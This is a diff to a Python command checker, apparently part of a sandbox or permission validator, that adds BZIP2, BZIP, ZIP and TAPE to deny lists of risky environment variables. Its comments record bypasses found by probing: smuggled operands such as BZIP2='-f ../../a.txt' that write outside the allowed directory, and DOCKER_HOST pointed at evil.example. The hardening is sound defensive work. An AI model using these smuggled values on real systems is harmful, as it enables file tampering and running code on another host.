@@ -96,19 +96,24 @@ _PROGRAM_VARS = frozenset(
 #: as a worker), ``GREP_OPTIONS`` (older greps), ``TAR_OPTIONS`` (GNU tar: ``-C DIR``),
 #: ``ZIPOPT``/``UNZIP``/``UNZIPOPT`` (Info-ZIP), ``LESSOPEN``/``LESSCLOSE`` (commands less
 #: runs), ``RSYNC_RSH`` (rsync's remote shell command), ``WGETRC``/``CURL_HOME`` (their
-#: configuration files, which name output files).
+#: configuration files, which name output files); ``BZIP2``/``BZIP`` and zip's ``ZIP``
+#: take file operands too (found probing: ``BZIP2='-f ../../a.txt' bzip2 x.txt``
+#: replaced the lead's ``a.txt`` with ``a.txt.bz2``, ``ZIP='-r ../../o.zip' zip ...``
+#: wrote ``o.zip`` there, both allowed).
 OPTION_VARS = frozenset(
-    {"RIPGREP_CONFIG_PATH", "GREP_OPTIONS", "TAR_OPTIONS", "ZIPOPT", "UNZIP", "UNZIPOPT",
-     "LESSOPEN", "LESSCLOSE", "RSYNC_RSH", "WGETRC", "CURL_HOME", "GNUPGHOME"}
+    {"RIPGREP_CONFIG_PATH", "GREP_OPTIONS", "TAR_OPTIONS", "ZIPOPT", "ZIP", "UNZIP",
+     "UNZIPOPT", "BZIP2", "BZIP", "LESSOPEN", "LESSCLOSE", "RSYNC_RSH", "WGETRC", "CURL_HOME",
+     "GNUPGHOME"}
 )  # fmt: skip
 #: Variables that send a program's work to another host or name a program it runs, when
 #: set to anything but empty: a container engine's (``DOCKER_HOST=tcp://evil.example:2375
 #: docker run ...``, found probing: allowed, the container ran there; ``DOCKER_CONFIG`` and
 #: ``CONTAINERS_CONF`` name files that name the engine), ``AUTOSSH_PATH``
-#: (the ssh autossh runs), ``RSYNC_CONNECT_PROG`` (the command rsync connects through).
+#: (the ssh autossh runs), ``RSYNC_CONNECT_PROG`` (the command rsync connects through),
+#: ``TAPE`` (GNU tar's archive without ``-f``: ``HOST:FILE`` is reached through rsh).
 CLIENT_VARS = frozenset({"DOCKER_HOST", "DOCKER_CONTEXT", "DOCKER_CONFIG", "CONTAINER_HOST",
                          "CONTAINER_CONNECTION", "CONTAINERS_CONF", "AUTOSSH_PATH",
-                         "RSYNC_CONNECT_PROG"})  # fmt: skip
+                         "RSYNC_CONNECT_PROG", "TAPE"})  # fmt: skip
 _PLAIN_PROGRAMS = frozenset(
     {"", "true", ":", "cat", "less", "more", "head", "vi", "vim", "nano", "less -R", "less -FRX"}
 )
